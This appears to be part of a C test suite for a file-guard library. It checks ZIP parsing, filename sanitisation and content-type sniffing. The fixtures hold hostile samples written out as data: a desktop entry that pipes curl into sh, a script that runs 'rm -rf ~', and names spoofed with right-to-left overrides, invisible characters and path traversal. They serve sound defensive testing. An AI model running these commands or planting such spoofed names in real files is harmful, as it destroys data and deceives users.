        sweep_tails (zip, &layout, expected, n_names, row->outcome);
    }
}

/* Tails too short for anything. */
static void
test_zip_scraps (void)
{
  static const struct
  {
    const char *bytes;
    gsize       len;
  } scraps[] = {
    { "", 0 },
    { "PK", 2 },
    { "PK\x05\x06", 4 },
    { "PK\x05\x06\0\0\0\0\x01\0\x01\0", 12 },
    { "PK\x03\x04", 4 },
    /* An end record that counts one entry, in a list of no bytes. */
    { "PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0", 22 },
    /* ZIP64 markers with nothing before them. */
    { "PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0", 22 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (scraps); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (GPtrArray) listed = NULL;

      listed = sotto_zip_list_entries ((const guint8 *) scraps[i].bytes, scraps[i].len,
                                       scraps[i].len, &error);
      g_test_message ("scrap %u: %" G_GSIZE_FORMAT " bytes", i, scraps[i].len);
      assert_refused (listed, error, TRUE);
    }
}

/* The limit: a ZIP64 archive, as no other counts 65536 entries. */
static void
test_zip_limit (void)
{
  g_autoptr (GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  const ZipOptions zip64 = { .zip64 = TRUE };

  for (guint i = 0; i < SOTTO_FILE_ZIP_ENTRIES_MAX + 1; i++)
    g_ptr_array_add (names, g_strdup_printf ("e%05u", i));

  for (guint extra = 0; extra <= 1; extra++)
    {
      guint n = SOTTO_FILE_ZIP_ENTRIES_MAX + extra;
      g_autoptr (GByteArray) zip = NULL;
      g_autoptr (GPtrArray) listed = NULL;
      g_autoptr (GError) error = NULL;

      zip = build_zip ((const char * const *) names->pdata, NULL, n, &zip64, NULL);
      g_test_message ("%u entries in %u bytes", n, zip->len);
      listed = list_tail (zip, zip->len, zip->len, &error);
      if (extra == 0)
        {
          g_assert_no_error (error);
          assert_listed (listed, (const char * const *) names->pdata, n);
        }
      else
        {
          assert_refused (listed, error, FALSE);
        }
    }
}

static void
test_zip (void)
{
  test_zip_cases ();
  test_zip_scraps ();
  test_zip_limit ();
}

/* /file-guard/names --------------------------------------------------------- */

typedef struct
{
  const char      *name;        /* after .repeat, .times times */
  const char      *safe;        /* after .repeat, .safe_times times */
  SottoFileAction  action;
  const char      *present[5];  /* findings that must be there */
  const char      *absent[5];   /* findings that must not */
  gboolean         complete;    /* present is every finding */
  const char      *repeat;      /* a long name: this, repeated, comes first */
  guint            times;
  guint            safe_times;
  const char      *shown;       /* NULL: not checked beyond the general rule */
} NameCase;

static const NameCase name_cases[] = {
  { "report.pdf", "report.pdf", ASK, { NULL }, { "renamed" }, TRUE },
  { "r\u00e9sum\u00e9 final (2).pdf", "r\u00e9sum\u00e9 final (2).pdf", ASK, { NULL },
    { NULL }, TRUE },

  /* Direction characters: "invoice" + RLO + "fdp.exe" shows as "invoiceexe.pdf". */
  { "invoice\u202Efdp.exe", "invoicefdp.exe", SHOW_ONLY, { "bidi", "renamed", "executable" },
    { "double-extension", "invisible" }, TRUE, .shown = "invoice⟦U+202E⟧fdp.exe" },
  { "report\u2067fdp.scr\u2069", "reportfdp.scr", SHOW_ONLY,
    { "bidi", "renamed", "executable" }, .complete = TRUE },
  { "a\u2066b\u2069.txt", "ab.txt", WARN, { "bidi", "renamed" }, .complete = TRUE },
  { "\u200Eleft\u200F.txt", "left.txt", WARN, { "bidi", "renamed" }, .complete = TRUE },
  { "a\u061Cb.txt", "ab.txt", WARN, { "bidi", "renamed" }, .complete = TRUE },

  /* Invisible characters. */
  { "pay\u200Bpal.pdf", "paypal.pdf", WARN, { "invisible", "renamed" }, { "bidi" }, TRUE },
  { "\uFEFFreadme.txt", "readme.txt", WARN, { "invisible", "renamed" }, .complete = TRUE },
  { "in\u00ADvoice.pdf", "invoice.pdf", WARN, { "invisible", "renamed" }, .complete = TRUE },
  { "evil.e\u200Dxe", "evil.exe", SHOW_ONLY, { "invisible", "renamed", "executable" },
    .complete = TRUE },
  { "file\U000E0041\U000E007F.txt", "file.txt", WARN, { "invisible", "renamed" },
    .complete = TRUE },
  { "a\uFE0F\u2060b.txt", "ab.txt", WARN, { "invisible", "renamed" }, .complete = TRUE },
  { "\u200B\u200B", "file", WARN, { "invisible", "renamed" }, .complete = TRUE },

  /* Control characters (C1 ones written as UTF-8 bytes: C forbids them as
   * \u escapes). */
  { "line\nbreak.txt", "linebreak.txt", WARN, { "control", "renamed" }, .complete = TRUE },
  { "tab\there\r.txt", "tabhere.txt", WARN, { "control", "renamed" }, .complete = TRUE },
  { "del\x7f\xc2\x85\xc2\x9f.txt", "del.txt", WARN, { "control", "renamed" }, .complete = TRUE },
  { "evil.exe\x01", "evil.exe", SHOW_ONLY, { "control", "renamed", "executable" },
    .complete = TRUE },

  /* Folders: only the last part is kept. */
  { "../../etc/passwd", "passwd", WARN, { "path", "renamed" }, { "hidden" }, TRUE },
  { "..\\..\\boot.ini", "boot.ini", WARN, { "path", "renamed" }, { "hidden" }, TRUE },
  { "/abs/path.txt", "path.txt", WARN, { "path", "renamed" }, .complete = TRUE },
  { "dir/sub/file.pdf", "file.pdf", WARN, { "path", "renamed" }, .complete = TRUE },
  { "C:\\Users\\me\\evil.lnk", "evil.lnk", SHOW_ONLY, { "path", "renamed", "executable" },
    .complete = TRUE },
  { "dir/", "file", WARN, { "path", "renamed" }, { "hidden" }, TRUE },
  { "dir\\", "file", WARN, { "path", "renamed" }, { "hidden" }, TRUE },
  { "dir/.profile", "profile", WARN, { "path", "hidden", "renamed" }, .complete = TRUE },
  { "../CON.txt", "_CON.txt", WARN, { "path", "reserved", "renamed" }, .complete = TRUE },

  /* Hidden files, dots, white space. */
  { ".bashrc", "bashrc", ASK, { "hidden", "renamed" }, .complete = TRUE },
  { ".hidden.sh", "hidden.sh", SHOW_ONLY, { "hidden", "renamed", "script" }, .complete = TRUE },
  /* The stem is what is left: "exe" has no extension. */
  { ".exe", "exe", ASK, { "hidden", "renamed" }, { "executable" }, TRUE },
  { ".con", "_con", ASK, { "hidden", "reserved", "renamed" }, .complete = TRUE },
  /* Whether "hidden" is said for these is left open. */
  { "...", "file", ASK, { "renamed" }, { "path", "reserved" } },
  { ".", "file", ASK, { "renamed" }, { "path", "reserved" } },
  { "..", "file", ASK, { "renamed" }, { "path", "reserved" } },
  { "", "file", ASK, { "renamed" }, { "hidden" }, TRUE },
  { "   ", "file", ASK, { "renamed" }, { "hidden" }, TRUE },
  { "report.pdf. . .", "report.pdf", ASK, { "renamed" }, { "hidden" }, TRUE },
  { "  spaced name.txt  ", "spaced name.txt", ASK, { "renamed" }, .complete = TRUE },
  { "evil.exe.", "evil.exe", SHOW_ONLY, { "renamed", "executable" }, .complete = TRUE },
  { "evil.exe ", "evil.exe", SHOW_ONLY, { "renamed", "executable" }, .complete = TRUE },
  /* White space around an extension does not hide it. */
  { "evil. exe", "evil. exe", SHOW_ONLY, { "executable" }, { "renamed" }, TRUE },
  { "\u00A0nbsp.txt\u3000", "nbsp.txt", ASK, { "renamed" }, .complete = TRUE },

  /* Windows device names, in any case, before the first dot. */
  { "CON", "_CON", ASK, { "reserved", "renamed" }, .complete = TRUE },
  { "con.txt", "_con.txt", ASK, { "reserved", "renamed" }, .complete = TRUE },
  { "LPT1.pdf", "_LPT1.pdf", ASK, { "reserved", "renamed" }, .complete = TRUE },
  { "COM9", "_COM9", ASK, { "reserved", "renamed" }, .complete = TRUE },
  { "NUL.tar.gz", "_NUL.tar.gz", ASK, { "reserved", "renamed", "archive" },
    { "double-extension" }, TRUE },
  { "aux.c", "_aux.c", ASK, { "reserved", "renamed" }, .complete = TRUE },
  { "CONSOLE.txt", "CONSOLE.txt", ASK, { NULL }, { "reserved" }, TRUE },
  { "COM10.txt", "COM10.txt", ASK, { NULL }, { "reserved" }, TRUE },
  { "LPT0", "LPT0", ASK, { NULL }, { "reserved" }, TRUE },

  /* Characters Windows refuses. */
  { "<>:\"|?*.txt", "_______.txt", ASK, { "renamed" }, .complete = TRUE },
  { "what?.pdf", "what_.pdf", ASK, { "renamed" }, .complete = TRUE },
  { "re:port<1>|\"x\"?*.pdf", "re_port_1___x___.pdf", ASK, { "renamed" }, .complete = TRUE },

  /* Lengths: 255 bytes kept, 256 shortened with the extension kept. */
  { ".pdf", ".pdf", ASK, { NULL }, { "too-long", "renamed" }, TRUE,
    .repeat = "a", .times = 251, .safe_times = 251 },
  { ".pdf", ".pdf", ASK, { "too-long", "renamed" }, .complete = TRUE,
    .repeat = "a", .times = 252, .safe_times = 251 },
  { ".exe", ".exe", SHOW_ONLY, { "too-long", "renamed", "executable" }, .complete = TRUE,
    .repeat = "a", .times = 252, .safe_times = 251 },
  /* Cut at a character, not inside one: 250 bytes of "é" and ".txt". */
  { ".txt", ".txt", ASK, { "too-long", "renamed" }, .complete = TRUE,
    .repeat = "\u00e9", .times = 130, .safe_times = 125 },
  { "", "", ASK, { "too-long", "renamed" }, .complete = TRUE,
    .repeat = "\u00e9", .times = 128, .safe_times = 127 },
  { ".pdf", ".pdf", ASK, { "too-long", "renamed" }, .complete = TRUE,
    .repeat = "\u65e5", .times = 100, .safe_times = 83 },
  /* An extension of 32 bytes with its dot is kept; a longer one is not. */
  { ".ccccccccccccccccccccccccccccccc", ".ccccccccccccccccccccccccccccccc", ASK,
    { "too-long", "renamed" }, .complete = TRUE, .repeat = "a", .times = 300, .safe_times = 223 },
  { ".cccccccccccccccccccccccccccccccc", "", ASK, { "too-long", "renamed" }, .complete = TRUE,
    .repeat = "a", .times = 300, .safe_times = 255 },
  { ".bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", ".bbbb", ASK, { "too-long", "renamed" },
    .complete = TRUE, .repeat = "a", .times = 250, .safe_times = 250 },

  /* Double extensions. */
  { "report.pdf.exe", "report.pdf.exe", SHOW_ONLY, { "double-extension", "executable" },
    .complete = TRUE },
  { "photo.jpg.scr", "photo.jpg.scr", SHOW_ONLY, { "double-extension", "executable" },
    .complete = TRUE },
  { "invoice.pdf      .exe", "invoice.pdf      .exe", SHOW_ONLY,
    { "double-extension", "executable" }, { "renamed" }, TRUE },
  { "Report.PDF.EXE", "Report.PDF.EXE", SHOW_ONLY, { "double-extension", "executable" },
    .complete = TRUE },
  { "document.docx.js", "document.docx.js", SHOW_ONLY, { "double-extension", "script" },
    .complete = TRUE },
  { "readme.txt.desktop", "readme.txt.desktop", SHOW_ONLY,
    { "double-extension", "desktop-entry" }, .complete = TRUE },
  { "budget.xls.xlsm", "budget.xls.xlsm", SHOW_ONLY, { "double-extension", "macros" },
    .complete = TRUE },
  { "song.mp3.bat", "song.mp3.bat", SHOW_ONLY, { "double-extension", "script" },
    .complete = TRUE },
  { "files.zip.exe", "files.zip.exe", SHOW_ONLY, { "double-extension", "executable" },
    .complete = TRUE },
  { "notes.md.exe", "notes.md.exe", SHOW_ONLY, { "executable" }, { "double-extension" }, TRUE },
  { "archive.tar.gz", "archive.tar.gz", ASK, { "archive" }, { "double-extension" }, TRUE },
  { "scan.pdf.zip", "scan.pdf.zip", ASK, { "archive" }, { "double-extension" }, TRUE },
  { "my.file.name.txt", "my.file.name.txt", ASK, { NULL }, { "double-extension" }, TRUE },

  /* Extensions that run, in any case. */
  { "SETUP.EXE", "SETUP.EXE", SHOW_ONLY, { "executable" }, .complete = TRUE },
  { "tool.AppImage", "tool.AppImage", SHOW_ONLY, { "executable" }, .complete = TRUE },
  { "install.sh", "install.sh", SHOW_ONLY, { "script" }, .complete = TRUE },
  { "run.BAT", "run.BAT", SHOW_ONLY, { "script" }, .complete = TRUE },
  { "app.desktop", "app.desktop", SHOW_ONLY, { "desktop-entry" }, .complete = TRUE },
  { "Budget.xlsm", "Budget.xlsm", SHOW_ONLY, { "macros" }, .complete = TRUE },
  { "disk.iso", "disk.iso", ASK, { "archive" }, .complete = TRUE },

  /* Normalisation and invalid UTF-8. */
  { "cafe\u0301.txt", "caf\u00e9.txt", ASK, { "renamed" }, .complete = TRUE },
  { "caf\u00e9.txt", "caf\u00e9.txt", ASK, { NULL }, { "renamed" }, TRUE },
  /* U+FFFD is what the name says once valid: nothing renamed after that. */
  { "abc\xff.txt", "abc\xef\xbf\xbd.txt", ASK, { NULL }, { "renamed" }, TRUE },
  /* An overlong "/" is two bad bytes, not a folder. */
  { "a\xc0\xaf" "b.txt", "a\xef\xbf\xbd\xef\xbf\xbd" "b.txt", ASK, { NULL },
    { "path", "renamed" }, TRUE },
};

/* Bytes that are nothing known: no content finding gets in the way. */
static const guint8 opaque_content[] = { 0x00, 0xFF, 0x00, 0xFE, 0x01, 0x02 };

static char *
repeated (const char *text,
          const char *repeat,
          guint       times)
{
  GString *out = g_string_new (NULL);

  for (guint i = 0; i < times; i++)
    g_string_append (out, repeat);
  g_string_append (out, text);

  return g_string_free (out, FALSE);
}

static void
test_names (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (name_cases); i++)
    {
      const NameCase *row = &name_cases[i];
      g_autofree char *name = repeated (row->name, row->repeat, row->times);
      g_autofree char *safe = repeated (row->safe, row->repeat, row->safe_times);
      g_autofree char *described = describe (name);
      g_autofree char *safe_described = describe (safe);
      g_autofree char *safe_name = sotto_file_safe_name (name);
      g_autofree char *ids = NULL;
      g_autoptr (SottoFileVerdict) verdict = NULL;
      SottoFileContent content = content_of (opaque_content, sizeof opaque_content,
                                             SOTTO_SCAN_CLEAN, NULL);

      verdict = sotto_file_guard_check (name, &content);
      g_assert_nonnull (verdict);
      ids = finding_ids (verdict);
      g_test_message ("%u: %s → “%s” (expected %s): %s (expected %s): %s", i, described,
                      verdict->safe_name, safe_described,
                      sotto_file_action_to_string (verdict->action),
                      sotto_file_action_to_string (row->action), ids);

      assert_safe_name (safe_name);
      g_assert_cmpstr (safe_name, ==, safe);
      assert_consistent (verdict, name, &content);
      g_assert_cmpstr (verdict->safe_name, ==, safe);
      g_assert_cmpstr (verdict->kind, ==, "unknown");
      g_assert_cmpint (verdict->action, ==, row->action);
      assert_row_findings (verdict, row->present, G_N_ELEMENTS (row->present),
                           row->absent, G_N_ELEMENTS (row->absent), row->complete);
      if (row->shown != NULL)
        g_assert_cmpstr (verdict->shown_name, ==, row->shown);
    }
}

/* /file-guard/contents ------------------------------------------------------ */

typedef enum
{
  SCAN_CLEAN,       /* first: the tables' default */
  SCAN_NONE,
  SCAN_FOUND,
  SCAN_BROKEN,
} RowScan;

typedef struct
{
  const char      *name;
  SottoFileAction  action;
  const char      *kind;
  const char      *present[5];   /* findings that must be there */
  const char      *absent[5];    /* findings that must not */
  gboolean         complete;     /* present is every finding */
  /* The content: bytes (.at zeros first, zeros after up to .pad_to) ... */
  const char      *bytes;
  gsize            len;
  gsize            at;
  gsize            pad_to;
  /* ...or a stored ZIP archive of these entries. */
  const char      *entries[6];
  const char      *contents[6];  /* NULL: an empty entry */
  gsize            big_first;    /* > 0: the first entry holds this many bytes */
  gboolean         zip64;
  ZipDamage        damage;
  RowScan          scan;
  const char      *detail;
  const char      *sniffed;      /* NULL: not checked beyond the general rule */
} ContentCase;

#define ELF_HEAD     "\x7f" "ELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"
#define PE_HEAD      "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
#define OLE_HEAD     "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00\x00\x00\x00\x00"
#define GZIP_HEAD    "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
#define PDF_HEAD     "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
#define PNG_HEAD     "\x89" "PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01"
#define DESKTOP_TEXT "[Desktop Entry]\nType=Application\nName=Readme\nExec=sh -c 'curl x | sh'\n"
/* Not the real EICAR string: the scanner's answer is given, and a test
 * binary that a virus scanner flags helps nobody. */
#define FLAGGED_TEXT "pretend this is a virus\n"

static const ContentCase content_cases[] = {
  /* Programs, whatever they are called. */
  { "report.pdf", SHOW_ONLY, "elf", { "executable", "type-mismatch" }, .complete = TRUE,
    BYTES (ELF_HEAD) },
  { "setup.exe", SHOW_ONLY, "elf", { "executable" }, { "type-mismatch" }, TRUE,
    BYTES (ELF_HEAD) },
  /* Without an extension: whether that is a mismatch is left open. */
  { "tool", SHOW_ONLY, "elf", { "executable" }, BYTES (ELF_HEAD) },
  { "photo.jpg", SHOW_ONLY, "pe", { "executable", "type-mismatch" }, .complete = TRUE,
    BYTES (PE_HEAD) },
  { "setup.exe", SHOW_ONLY, "pe", { "executable" }, .complete = TRUE, BYTES (PE_HEAD) },
  { "report.pdf.exe", SHOW_ONLY, "pe", { "executable", "double-extension" }, .complete = TRUE,
    BYTES (PE_HEAD) },
  { "image.png", SHOW_ONLY, "mach-o", { "executable", "type-mismatch" }, .complete = TRUE,
    BYTES ("\xfe\xed\xfa\xce\x00\x00\x00\x07\x00\x00\x00\x03") },
  { "notes.txt", SHOW_ONLY, "mach-o", { "executable", "type-mismatch" }, .complete = TRUE,
    BYTES ("\xfe\xed\xfa\xcf\x01\x00\x00\x07\x00\x00\x00\x03") },
  { "app", SHOW_ONLY, "mach-o", { "executable" },
    BYTES ("\xce\xfa\xed\xfe\x07\x00\x00\x00\x03\x00\x00\x00") },
  { "Installer.pkg", SHOW_ONLY, "mach-o", { "executable" }, .complete = TRUE,
    BYTES ("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00") },
  { "Main.class", SHOW_ONLY, "java", { "executable" }, .complete = TRUE,
    BYTES ("\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d") },
  { "data.bin", SHOW_ONLY, "java", { "executable", "type-mismatch" }, .complete = TRUE,
    BYTES ("\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d") },

  /* Scripts and desktop entries. */
  { "notes.txt", SHOW_ONLY, "script", { "script", "type-mismatch" }, .complete = TRUE,
    BYTES ("#!/bin/sh\nrm -rf ~\n") },
  { "run.py", SHOW_ONLY, "script", { "script" }, .complete = TRUE,
    BYTES ("#!/usr/bin/env python3\nprint (1)\n") },
  { "notes.txt", ASK, "text", { NULL }, .complete = TRUE, BYTES (" #!/bin/sh\n") },
  { "readme.txt", SHOW_ONLY, "desktop-entry", { "desktop-entry", "type-mismatch" },
    .complete = TRUE, BYTES (DESKTOP_TEXT) },
  { "app.desktop", SHOW_ONLY, "desktop-entry", { "desktop-entry" }, .complete = TRUE,
    BYTES (DESKTOP_TEXT) },
  { "notes.txt", SHOW_ONLY, "desktop-entry", { "desktop-entry", "type-mismatch" },
    .complete = TRUE, BYTES ("\xef\xbb\xbf# made by hand\n\n#\n[Desktop Entry]\nExec=evil\n") },
  { "notes.txt", ASK, "text", { NULL }, .complete = TRUE,
    BYTES ("hello\n[Desktop Entry]\nExec=evil\n") },

  /* Office documents, with macros and without. */
  { "report.docx", SHOW_ONLY, "ooxml", { "macros" },
    { "archive", "archive-holds-program", "type-mismatch" }, TRUE,
    .entries = { "[Content_Types].xml", "_rels/.rels", "word/document.xml",
                 "word/vbaProject.bin" } },
  { "report.docx", ASK, "ooxml", { NULL }, { "archive" }, TRUE,
    .entries = { "[Content_Types].xml", "_rels/.rels", "word/document.xml" } },
  { "report.docm", SHOW_ONLY, "ooxml", { "macros" }, .complete = TRUE,
    .entries = { "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin" } },
  { "budget.xlsx", SHOW_ONLY, "ooxml", { "macros" }, .complete = TRUE,
    .entries = { "[Content_Types].xml", "xl/workbook.xml", "xl/VBAPROJECT.BIN" } },
  { "letter.odt", SHOW_ONLY, "odf", { "macros" }, { "archive" }, TRUE,
    .entries = { "mimetype", "content.xml", "Basic/Standard/Module1.xml" },
    .contents = { ODT_TYPE, "<office:document-content/>", "<script:module/>" } },
  { "letter.odt", ASK, "odf", { NULL }, { "archive" }, TRUE,
    .entries = { "mimetype", "content.xml", "META-INF/manifest.xml" },
    .contents = { ODT_TYPE, "<office:document-content/>" } },
  /* The folder alone holds no macro. */
  { "letter.odt", ASK, "odf", { NULL }, { "macros" }, TRUE,
    .entries = { "mimetype", "content.xml", "Basic/", "Scripts/" },
    .contents = { ODT_TYPE } },
  { "letter.odt", SHOW_ONLY, "odf", { "macros" }, { "archive-holds-program" }, TRUE,
    .entries = { "mimetype", "content.xml", "Scripts/python/hello.py" },
    .contents = { ODT_TYPE } },
  { "letter.docx", WARN, "odf", { "type-mismatch" }, .complete = TRUE,
    .entries = { "mimetype", "content.xml" }, .contents = { ODT_TYPE } },
  /* "mimetype" must come first. */
  { "letter.odt", WARN, "zip", { "archive", "type-mismatch" }, .complete = TRUE,
    .entries = { "content.xml", "mimetype" }, .contents = { NULL, ODT_TYPE } },

  /* Java and Android. */
  { "photos.zip", SHOW_ONLY, "java", { "executable", "type-mismatch" },
    { "archive-holds-program" },
    .entries = { "META-INF/MANIFEST.MF", "com/example/Main.class" } },
  { "app.jar", SHOW_ONLY, "java", { "executable" }, .complete = TRUE,
    .entries = { "META-INF/MANIFEST.MF", "com/example/Main.class" } },
  { "game.apk", SHOW_ONLY, "java", { "executable" }, .complete = TRUE,
    .entries = { "AndroidManifest.xml", "classes.dex", "res/" } },

  /* Plain archives, and what they hold. */
  { "photos.zip", WARN, "zip", { "archive", "archive-holds-program" }, .complete = TRUE,
    .entries = { "setup.exe" } },
  { "files.zip", ASK, "zip", { "archive" }, .complete = TRUE, .entries = { "a.txt" } },
  { "files.zip", WARN, "zip", { "archive", "archive-holds-program" }, .complete = TRUE,
    .entries = { "docs/", "docs/readme.txt", "docs/install.SH" } },
  { "files.zip", WARN, "zip", { "archive", "archive-holds-program" }, .complete = TRUE,
    .entries = { "report.pdf", "macro.docm" } },
  { "files.zip", ASK, "zip", { "archive" }, .complete = TRUE,
    .entries = { "report.pdf", "README", "dir/" } },
  { "data.bin", ASK, "zip", { "archive" }, .complete = TRUE, .entries = { "a.txt" } },
  { "report.pdf", WARN, "zip", { "archive", "type-mismatch" }, .complete = TRUE,
    .entries = { "a.txt" } },
  { "empty.zip", ASK, "zip", { "archive" }, .complete = TRUE,
    BYTES ("PK\x05\x06"), .pad_to = 22 },
  /* Larger than the head: the list is read from the tail. */
  { "photos.zip", WARN, "zip", { "archive", "archive-holds-program" }, .complete = TRUE,
    .entries = { "big.bin", "run.exe" }, .big_first = 3 * SOTTO_FILE_HEAD_LEN },
  { "files.zip", WARN, "zip", { "archive", "archive-holds-program" }, .complete = TRUE,
    .entries = { "a.txt", "b.sh" }, .zip64 = TRUE },

  /* Archives that cannot be read. */
  { "files.zip", WARN, "zip", { "archive-unreadable", "archive" },
    { "archive-holds-program" }, TRUE,
    .entries = { "a.txt", "setup.exe" }, .damage = ZIP_COUNT_LARGE },
  { "files.zip", WARN, "zip", { "archive-unreadable", "archive" }, .complete = TRUE,
    .entries = { "a.txt", "setup.exe" }, .damage = ZIP_NAME_PAST_END },
  { "data.bin", WARN, "zip", { "archive-unreadable" }, { "archive" }, TRUE,
    .entries = { "a.txt", "setup.exe" }, .damage = ZIP_CD_TRUNCATED },
  { "x.zip", WARN, "zip", { "archive-unreadable", "archive" }, .complete = TRUE,
    BYTES ("PK\x03\x04") },

  /* Legacy Office. */
  { "budget.xls", WARN, "ole", { "office-legacy" }, .complete = TRUE,
    BYTES (OLE_HEAD), .pad_to = 512 },
  { "letter.doc", WARN, "ole", { "office-legacy" }, .complete = TRUE,
    BYTES (OLE_HEAD), .pad_to = 512 },
  { "budget.xlsx", WARN, "ole", { "office-legacy", "type-mismatch" }, .complete = TRUE,
    BYTES (OLE_HEAD), .pad_to = 512 },

  /* Other archives. */
  { "logs.tar.gz", ASK, "archive", { "archive" }, .complete = TRUE, BYTES (GZIP_HEAD) },
  { "data.bin", ASK, "archive", { "archive" }, .complete = TRUE, BYTES (GZIP_HEAD) },
  { "report.pdf", WARN, "archive", { "archive", "type-mismatch" }, .complete = TRUE,
    BYTES (GZIP_HEAD) },
  { "backup.7z", ASK, "archive", { "archive" }, .complete = TRUE,
    BYTES ("7z\xbc\xaf\x27\x1c\x00\x04") },
  { "music.rar", ASK, "archive", { "archive" }, .complete = TRUE,
    BYTES ("Rar!\x1a\x07\x01\x00") },
  { "data.xz", ASK, "archive", { "archive" }, .complete = TRUE,
    BYTES ("\xfd" "7zXZ\x00\x00\x04\xe6\xd6\xb4\x46") },
  { "data.bz2", ASK, "archive", { "archive" }, .complete = TRUE, BYTES ("BZh91AY&SY") },
  { "data.zst", ASK, "archive", { "archive" }, .complete = TRUE,
    BYTES ("\x28\xb5\x2f\xfd\x04\x00\x41\x00") },
  { "data.tar", ASK, "archive", { "archive" }, .complete = TRUE,
    BYTES ("ustar\x00" "00"), .at = 257, .pad_to = 512 },

  /* Documents and images. */
  { "report.pdf", ASK, "pdf", { NULL }, .complete = TRUE, BYTES (PDF_HEAD),
    .sniffed = "application/pdf" },
  { "photo.jpg", WARN, "pdf", { "type-mismatch" }, .complete = TRUE, BYTES (PDF_HEAD),
    .sniffed = "application/pdf" },
  { "image.png", ASK, "image", { NULL }, .complete = TRUE, BYTES (PNG_HEAD),
    .sniffed = "image/png" },
  /* One image called another is no mismatch. */
  { "image.jpg", ASK, "image", { NULL }, .complete = TRUE, BYTES (PNG_HEAD) },
  { "report.pdf", WARN, "image", { "type-mismatch" }, .complete = TRUE, BYTES (PNG_HEAD) },
  { "photo.jpg", ASK, "image", { NULL }, .complete = TRUE,
    BYTES ("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01") },
  { "anim.gif", ASK, "image", { NULL }, .complete = TRUE, BYTES ("GIF89a\x01\x00\x01\x00") },
  { "old.gif", ASK, "image", { NULL }, .complete = TRUE, BYTES ("GIF87a\x01\x00\x01\x00") },
  { "pic.webp", ASK, "image", { NULL }, .complete = TRUE,
    BYTES ("RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00") },
  { "sound.wav", ASK, "unknown", { NULL }, .complete = TRUE,
    BYTES ("RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00") },

  /* Text, unknown bytes, nothing. */
  { "notes.txt", ASK, "text", { NULL }, .complete = TRUE, BYTES ("hello\n") },
  { "photo.png", WARN, "text", { "type-mismatch" }, .complete = TRUE, BYTES ("hello\n") },
  /* The name alone makes it a program: it would run by its name. */
  { "setup.exe", SHOW_ONLY, "text", { "executable" }, { "type-mismatch" }, TRUE,
    BYTES ("hello\n") },
  { "run.sh", SHOW_ONLY, "text", { "script" }, .complete = TRUE, BYTES ("echo hi\n") },
  { "data.bin", ASK, "unknown", { NULL }, .complete = TRUE, BYTES ("\x00\x01\x02\xff") },
  /* Unknown bytes are no mismatch with anything. */
  { "notes.txt", ASK, "unknown", { NULL }, .complete = TRUE, BYTES ("\xff\xfeh\x00i\x00") },
  { "empty.txt", ASK, "empty", { "empty" }, .complete = TRUE, BYTES ("") },
  { "readme", ASK, "empty", { "empty" }, .complete = TRUE, BYTES ("") },
  { "report.pdf", WARN, "empty", { "empty", "type-mismatch" }, .complete = TRUE, BYTES ("") },

  /* What the scanner said. */
  { "eicar.txt", BLOCK, "text", { "infected" }, .complete = TRUE, BYTES (FLAGGED_TEXT),
    .scan = SCAN_FOUND, .detail = "Eicar-Signature" },
  { "eicar.com", BLOCK, "text", { "infected", "executable" }, .complete = TRUE,
    BYTES (FLAGGED_TEXT), .scan = SCAN_FOUND, .detail = "Eicar-Signature" },
  { "notes.txt", BLOCK, "text", { "infected" }, .complete = TRUE, BYTES ("hello\n"),
    .scan = SCAN_FOUND },
  { "report.pdf", BLOCK, "elf", { "infected", "executable", "type-mismatch" },
    .complete = TRUE, BYTES (ELF_HEAD), .scan = SCAN_FOUND, .detail = "Unix.Trojan.Agent" },
  { "notes.txt", WARN, "text", { "not-scanned" }, .complete = TRUE, BYTES ("hello\n"),
    .scan = SCAN_NONE },
  { "notes.txt", WARN, "text", { "scan-failed" }, .complete = TRUE, BYTES ("hello\n"),
    .scan = SCAN_BROKEN },
  { "setup.exe", SHOW_ONLY, "elf", { "executable", "not-scanned" }, .complete = TRUE,
    BYTES (ELF_HEAD), .scan = SCAN_NONE },
};

static SottoScanResult
scan_result (RowScan scan)
{
  switch (scan)
    {
    case SCAN_NONE:
      return SOTTO_SCAN_NOT_SCANNED;
    case SCAN_FOUND:
      return SOTTO_SCAN_INFECTED;
    case SCAN_BROKEN:
      return SOTTO_SCAN_FAILED;
    case SCAN_CLEAN:
    default:
      return SOTTO_SCAN_CLEAN;
    }
}

static GByteArray *
build_content (const ContentCase *row)
{
  GByteArray *bytes = NULL;

  if (row->entries[0] != NULL)
    {
      const char *contents[G_N_ELEMENTS (row->contents)];
      g_autofree char *big = NULL;
      ZipOptions options = { .zip64 = row->zip64, .damage = row->damage };

      memcpy (contents, row->contents, sizeof contents);
      if (row->big_first > 0)
        contents[0] = big = g_strnfill (row->big_first, 'x');

      return build_zip (row->entries, contents,
                        count_names (row->entries, G_N_ELEMENTS (row->entries)),
                        &options, NULL);
    }

  bytes = g_byte_array_new ();
  put_bytes (bytes, 0, row->at);
  g_byte_array_append (bytes, (const guint8 *) row->bytes, row->len);
  if (row->pad_to > bytes->len)
    put_bytes (bytes, 0, row->pad_to - bytes->len);

  return bytes;
}

static void
test_contents (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (content_cases); i++)
    {
      const ContentCase *row = &content_cases[i];
      g_autoptr (GByteArray) bytes = build_content (row);
      g_autoptr (SottoFileVerdict) verdict = NULL;
      g_autofree char *ids = NULL;
